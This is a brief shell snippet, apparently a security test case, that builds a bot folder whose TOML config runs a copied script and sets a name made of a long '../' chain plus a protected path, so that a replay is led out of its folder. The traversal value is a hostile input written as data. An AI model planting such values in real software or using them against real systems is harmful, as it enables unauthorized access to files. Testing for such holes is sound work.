# attack: a name that leads a replay out of its folder
mkdir bot
cp "$SNOOP" bot/play.sh
printf 'run = "sh play.sh"\nname = "../../../../../../../../../../..%s"\n' "$PRECIOUS" > bot/skirmish.toml
